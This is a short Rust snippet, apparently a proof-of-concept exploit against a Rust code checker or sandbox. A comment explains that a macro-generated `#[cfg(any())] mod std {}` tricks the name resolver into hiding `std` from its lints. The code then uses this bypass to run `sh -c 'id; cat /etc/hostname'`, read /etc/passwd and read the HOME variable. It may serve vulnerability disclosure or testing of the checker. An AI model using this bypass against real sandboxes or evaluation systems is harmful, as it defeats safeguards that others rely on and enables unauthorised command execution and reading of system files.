// An item a macro makes is added to the caller's scope by NameResolver.addItems ->
// hoistItem, whose cfg test reads the token at the item's index in the *caller's*
// token array, not the expansion's: the `#` is not seen, the cfg is never
// evaluated, and the removed `mod std` hides std from the lints.
macro_rules! m { () => { #[cfg(any())] mod std {} } }
m!();
let out = std::process::Command::new("sh").arg("-c").arg("id; cat /etc/hostname").output()?;
let passwd = std::fs::read_to_string("/etc/passwd")?;
let home = std::env::var("HOME").unwrap_or_default();
Ok(Some(format!("{} | passwd: {} lines | HOME={}", String::from_utf8_lossy(&out.stdout).replace('\n', " "), passwd.lines().count(), home)))
